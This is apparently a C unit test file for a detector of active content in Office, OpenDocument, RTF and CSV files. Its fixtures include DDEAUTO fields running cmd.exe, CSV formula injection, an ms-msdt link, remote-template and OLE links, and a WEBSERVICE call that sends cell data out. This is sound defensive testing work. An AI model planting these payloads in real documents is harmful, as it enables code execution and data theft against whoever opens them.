/* SPDX-License-Identifier: GPL-2.0-or-later WITH cryptsetup-OpenSSL-exception */
/* Office documents: what they load, what acts in their parts. */
#include "content_fixture.h"

#define RELS "word/_rels/settings.xml.rels"
#define TRANSITIONAL "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define W "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>"
#define W_END "</w:body></w:document>"

static struct looked relation(const char *type, const char *target, const char *mode)
{
	char text[1024];

	(void)snprintf(text, sizeof(text),
		       "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Relationships "
		       "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"%s%s\" "
		       "Target=\"%s\" %s/></Relationships>",
		       TRANSITIONAL, type, target, mode);
	return look_text(text, RELS, OOXML, "text/xml");
}

#define EXTERNAL "TargetMode=\"External\""

static void relations_that_load(void **state)
{
	ACTIVE(relation("attachedTemplate", "https://example.org/t.dotm", EXTERNAL), "https://example.org/t.dotm");
	ACTIVE(relation("attachedTemplate", "file:///C:/Users/a/Normal.dotm", EXTERNAL), "a template of elsewhere");
	ACTIVE(relation("oleObject", "mhtml:http://example.org/x.html!x-usc:http://example.org/x.html", EXTERNAL), "OLE object");
	ACTIVE(relation("frame", "\\\\192.0.2.1\\x\\y.html", EXTERNAL), "a frame");
	ACTIVE(relation("subDocument", "other.docx", EXTERNAL), "a document within it");
	ACTIVE(relation("externalLinkPath", "Book2.xlsx", EXTERNAL), "another workbook");
	ACTIVE(relation("image", "http://example.org/beacon.png", EXTERNAL), "a picture that is fetched");
	ACTIVE(relation("image", "//192.0.2.1/x.png", EXTERNAL), "a picture");
	ACTIVE(relation("image", "&#x68;ttp://example.org/beacon.png", EXTERNAL), "http://example.org");
	ACTIVE(relation("hyperlink", "ms-msdt:/id PCWDiagnostic", EXTERNAL), "starts a program");
	ACTIVE(relation("unheardOf", "http://example.org/", EXTERNAL), "unheardOf");
}

static void relations_that_do_not(void **state)
{
	said_nothing(relation("hyperlink", "https://example.org/a?b=c&amp;d=e", EXTERNAL));
	said_nothing(relation("hyperlink", "mailto:a@example.org", EXTERNAL));
	said_nothing(relation("image", "pictures/a.png", EXTERNAL)); /* beside the document */
	said_nothing(relation("attachedTemplate", "template.dotx", "TargetMode=\"Internal\""));
	said_nothing(relation("oleObject", "embeddings/oleObject1.xlsx", ""));
	/* the same text as a file of its own, and as a member that no reader takes for relations */
	silent_text("<Relationships><Relationship Type=\"x/frame\" Target=\"http://e\" TargetMode=\"External\"/></Relationships>",
		    "a/_rels/x.rels", NULL, "text/xml");
	silent_text("<Relationships><Relationship Type=\"x/frame\" Target=\"http://e\" TargetMode=\"External\"/></Relationships>",
		    "word/notes.xml.txt", OOXML, "text/xml");
}

static void relations_that_lie(void **state)
{
	const char *wide_text = "<Relationships><Relationship Type=\"x/frame\" Target=\"http://e/\" TargetMode=\"External\"/></Relationships>";
	size_t size;
	uint8_t *wide = widen(wide_text, &size);

	UNSAFE(look_text("<!DOCTYPE r [<!ENTITY x \"http://e/\">]><Relationships/>", RELS, OOXML, "text/xml"), "document type");
	UNSAFE(look_text("<Relationships><Relationship></Relationships>", RELS, OOXML, "text/xml"), "well-formed");
	UNSAFE(look_text("", RELS, OOXML, "application/x-empty"), "well-formed");
	ACTIVE(look_bytes(wide, size, RELS, OOXML, "text/xml"), "http://e/");
	free(wide);
}

static void too_deep(void **state)
{
	size_t n = 200000;
	char *text = malloc(3 * n + 1);

	assert_non_null(text);
	for (size_t i = 0; i < n; i++)
		memcpy(text + 3 * i, "<a>", 3);
	UNSAFE(look_bytes(text, 3 * n, RELS, OOXML, "text/xml"), "too deep");
	free(text);
}

static struct looked word(const char *body)
{
	char text[2048];

	(void)snprintf(text, sizeof(text), W "%s" W_END, body);
	return look_text(text, "word/document.xml", OOXML, "text/xml");
}

#define BEGIN "<w:fldChar w:fldCharType=\"begin\"/>"
#define END "<w:fldChar w:fldCharType=\"end\"/>"

static void fields(void **state)
{
	ACTIVE(word("<w:p><w:r>" BEGIN "</w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe \"/c "
		    "calc\"</w:instrText></w:r><w:r>" END "</w:r></w:p>"),
	       "DDEAUTO");
	ACTIVE(word("<w:p><w:fldSimple w:instr=\" dde excel x\"/></w:p>"), "(DDE)");
	ACTIVE(word("<w:p>" BEGIN "<w:instrText>IF 1 = 1 </w:instrText>" BEGIN "<w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText>" END END
		    "</w:p>"),
	       "written in numbers");
	ACTIVE(word("<w:p>" BEGIN "<w:instrText>INCLUDEPICTURE \"http://example.org/x.png\" \\d</w:instrText>" END "</w:p>"), "elsewhere");
	/* no begin: Word repairs it */
	ACTIVE(word("<w:p><w:instrText>DDEAUTO a b</w:instrText></w:p>"), "DDEAUTO");
	said_nothing(word("<w:p>" BEGIN "<w:instrText>PAGE \\* MERGEFORMAT</w:instrText>" END "</w:p>"));
	said_nothing(word("<w:p>" BEGIN "<w:instrText>HYPERLINK \"http://example.org/dde\"</w:instrText>" END "</w:p>"));
	said_nothing(word("<w:p>" BEGIN "<w:instrText>INCLUDEPICTURE \"a.png\"</w:instrText>" END "</w:p>"));
	said_nothing(word("<w:p><w:r><w:t>DDEAUTO c:\\\\cmd.exe is how it is done</w:t></w:r></w:p>"));
	said_nothing(word("<w:p><w:fldSimple w:instr=\"QUOTE &quot;68 68&quot;\"/></w:p>"));
}

static void deep_fields(void **state)
{
	char text[20000] = W "<w:p>";

	for (int i = 0; i < 200; i++)
		strncat(text, BEGIN, sizeof(text) - strlen(text) - 1);
	strncat(text, "<w:instrText>DDEAUTO a</w:instrText></w:p>" W_END, sizeof(text) - strlen(text) - 1);
	ACTIVE(look_text(text, "word/document.xml", OOXML, "text/xml"), "DDEAUTO"); /* none has an end */
}

static void parts(void **state)
{
	ACTIVE(look_text("x", "word/vbaProject.bin", OOXML, "application/octet-stream"), "a VBA project");
	ACTIVE(look_text("x", "Word/VBAPROJECT.BIN", "application/zip", "application/octet-stream"), "a VBA project");
	ACTIVE(look_text("<x/>", "xl/macrosheets/sheet1.xml", OOXML, "text/xml"), "Excel 4");
	ACTIVE(look_text("<x/>", "word/activeX/activeX1.xml", OOXML, "text/xml"), "ActiveX");
	ACTIVE(look_text("x", "word/embeddings/oleObject1.bin", OOXML, "application/octet-stream"), "OLE object");
	silent_text("x", "word/embeddings/Microsoft_Excel_Sheet1.xlsx", OOXML, "application/octet-stream");
	silent_text("x", "vbaProject.bin", NULL, "application/octet-stream");
	ACTIVE(look_text("<customUI onLoad=\"x\"/>", "customUI/customUI14.xml", OOXML, "text/xml"), "onLoad");
	silent_text("<customUI><ribbon startFromScratch=\"true\"/></customUI>", "customUI/customUI.xml", OOXML, "text/xml");
	ACTIVE(look_text("<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>", "xl/externalLinks/externalLink1.xml",
			 OOXML, "text/xml"),
	       "cmd|/c calc");
	ACTIVE(look_text("<workbook><definedName name=\"_xlnm.Auto_Open\">M!$A$1</definedName></workbook>", "xl/workbook.xml", OOXML,
			 "text/xml"),
	       "runs by itself");
	silent_text("<workbook><definedName name=\"_xlnm.Print_Area\">M!$A$1</definedName></workbook>", "xl/workbook.xml", OOXML, "text/xml");
}

static struct looked types(const char *body)
{
	char text[1024];

	(void)snprintf(text, sizeof(text), "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">%s</Types>", body);
	return look_text(text, "[Content_Types].xml", OOXML, "text/xml");
}

static void content_types(void **state)
{
	struct looked l;

	ACTIVE(types("<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"),
	       "for macros");
	l = types("<Override PartName=\"/word/media/image1.png\" ContentType=\"application/vnd.ms-office.vbaProject\"/>");
	assert_int_equal(l.findings.count, 2);
	MISMATCH(l, "/word/media/image1.png");
	said_nothing(types("<Default Extension=\"xml\" ContentType=\"application/xml\"/>"));
}

#define ODF_HEAD "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:x=\"x\">"

static struct looked odf(const char *body)
{
	char text[1024];

	(void)snprintf(text, sizeof(text), ODF_HEAD "%s</office:document-content>", body);
	return look_text(text, "content.xml", ODF, "text/xml");
}

static void open_document(void **state)
{
	ACTIVE(odf("<x:event-listener x:language=\"ooo:script\" x:href=\"vnd.sun.star.script:a.py$b?language=Python\"/>"), "calls a macro");
	ACTIVE(odf("<x:object-ole x:href=\"./Object 1\"/>"), "OLE");
	ACTIVE(odf("<x:dde-source x:dde-application=\"soffice\"/>"), "DDE");
	ACTIVE(odf("<x:image x:href=\"https://example.org/a.png\"/>"), "elsewhere");
	ACTIVE(odf("<x:a x:href=\"macro:Standard.Module1.Main\"/>"), "calls a macro");
	ACTIVE(odf("<x:script x:language=\"JavaScript\">x</x:script>"), "a script");
	ACTIVE(look_text("Sub Main", "Basic/Standard/Module1.xml", ODF, "text/plain"), "Module1.xml");
	ACTIVE(look_text("import os", "Scripts/python/a.py", ODF, "text/plain"), "a macro");
	ACTIVE(look_bytes("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8, "Object 1", ODF, "application/x-ole-storage"), "OLE");
	said_nothing(odf("<x:event-listener x:language=\"ooo:script\" x:href=\"\"/>")); /* LibreOffice: not bound */
	said_nothing(odf("<x:event-listener x:action=\"next-page\"/>"));
	said_nothing(odf("<x:a x:href=\"https://example.org/\"/><x:image x:href=\"Pictures/a.png\"/>"));
	said_nothing(odf("<x:script x:language=\"ooo:Basic\"><x:libraries/></x:script>"));
	said_nothing(odf("<x:object x:href=\"./Object 1\"/>")); /* a chart */
	silent_text("<x/>", "Basic/script-lc.xml", ODF, "text/xml");
	UNSAFE(odf("<a>"), "well-formed");
	/* flat */
	ACTIVE(look_text("<?xml version=\"1.0\"?><office:document xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
			 "xmlns:ooo=\"o\"><ooo:module>Sub Main</ooo:module></office:document>",
			 "a.fodt", NULL, "text/xml"),
	       "Basic");
}

static void rich_text(void **state)
{
	static const char cut[] = "{\\rtf1{\\object\\objupdate{\\*\\objdata 01\\'05\\bin4 }}}}{\\*\\template http://e}}";
	struct looked l;

#define RTF(text) look_text(text, "a.rtf", NULL, "text/rtf")
	said_nothing(RTF("{\\rtf1\\ansi{\\fonttbl{\\f0 Times;}}\\f0 objdata is a word. \\par}"));
	said_nothing(RTF("{\\rtf1{\\*\\template C:\\\\Templates\\\\a.dot}{\\field{\\*\\fldinst{PAGE}}{\\fldrslt 1}}}"));
	said_nothing(RTF("{\\rtf1{\\field{\\*\\fldinst{HYPERLINK \"http://example.org/\"}}{\\fldrslt x}}}"));
	said_nothing(RTF("{\\rtf1{\\pict\\pngblip\\bin12 {\\objdata 00}}}")); /* twelve bytes that are no text */
	ACTIVE(RTF("{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105\n0000 0200}}}"), "an embedded object");
	ACTIVE(RTF("{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}}}"), "loaded when it is opened");
	ACTIVE(RTF("{\\rtf1{\\*\\template http://example.org/a.dotm}}"), "http://example.org/a.dotm");
	ACTIVE(RTF("{\\rtf1{\\*\\template \\'68ttp://example.org/a}}"), "http://example.org/a");
	ACTIVE(RTF("{\\rtf1{\\field{\\*\\fldinst{ DDE}{\\b AUTO c:\\\\\\\\cmd}}}}"), "DDEAUTO");
	ACTIVE(RTF("{\\rt{\\object{\\*\\objdata 01}}}"), "an embedded object"); /* Word reads on */
	l = RTF("{\\rtf1{\\object{\\*\\objdata 01{\\x}05}}}");
	UNSAFE(l, "hidden among control words");
	UNSAFE(RTF("{\\rtf1{\\object{\\*\\objclass Equation.3}{\\*\\objdata 0105}}}"), "Equation");
	survives_cutting(cut, sizeof(cut) - 1, "a.rtf", NULL, "text/rtf");
}

#define CSV(text) look_text(text, "a.csv", NULL, "text/csv")

static void tables(void **state)
{
	ACTIVE(CSV("a,b\n1,\"=cmd|' /C calc, x'!A0\"\n"), "cmd|");
	ACTIVE(CSV("x;@SUM(1+1)*cmd|' /C calc'!A0"), "DDE");
	ACTIVE(CSV("x\t=WEBSERVICE(\"http://example.org/?\"&A1)"), "calls out");
	ACTIVE(look_text("ID;PWXL;N;E\nC;X1;Y1;EEXEC(\"calc\")\n", "a.txt", NULL, "text/plain"), "SYLK");
	ACTIVE(look_text("ID;P\nNN;NAuto_open;ER1C1\n", "a.slk", NULL, "text/plain"), "by itself");
	ACTIVE(look_text("WEB\r\n1\r\nhttp://example.org/x\r\n", "a.iqy", NULL, "text/plain"), "example.org");
	said_nothing(CSV("name,value\n-5,a|b!c\n+49 30 1234,x\n=A1+B1,@home\n-recall(x),y\n"));
	said_nothing(CSV("--,==,|!\n-a b | c!\n"));
	silent_text("=cmd|' /C calc'!A0", "notes.txt", NULL, "text/plain");
	silent_text("ID;PWXL;N;E\nC;X1;Y1;K\"call(\"\n", "a.slk", NULL, "text/plain");
}

#define FLAT "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><pkg:package " \
	     "xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\" xmlns:w=\"w\">"

static void flat_documents(void **state)
{
	ACTIVE(look_text(FLAT "<pkg:part pkg:name=\"/word/vbaProject.bin\"/></pkg:package>", "a.xml", NULL, "text/xml"), "a VBA project");
	ACTIVE(look_text(FLAT "<Relationship Type=\"x/attachedTemplate\" Target=\"http://e/\" TargetMode=\"External\"/></pkg:package>", "a.xml",
			 NULL, "text/xml"),
	       "http://e/");
	ACTIVE(look_text(FLAT "<w:instrText>DDEAUTO a b</w:instrText></pkg:package>", "a.doc", NULL, "text/xml"), "DDEAUTO");
	ACTIVE(look_text("<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" w:macrosPresent=\"yes\"/>", "a.xml",
			 NULL, "text/xml"),
	       "macros");
	silent_text(FLAT "<pkg:part pkg:name=\"/word/document.xml\"/></pkg:package>", "a.xml", NULL, "text/xml");
	silent_text("<a b=\"word/vbaProject.bin\"/>", "a.xml", NULL, "text/xml");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(relations_that_load), cmocka_unit_test(relations_that_do_not), cmocka_unit_test(relations_that_lie),
		cmocka_unit_test(too_deep),	       cmocka_unit_test(fields),		cmocka_unit_test(deep_fields),
		cmocka_unit_test(parts),	       cmocka_unit_test(content_types),		cmocka_unit_test(open_document),
		cmocka_unit_test(rich_text),	       cmocka_unit_test(tables),		cmocka_unit_test(flat_documents),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
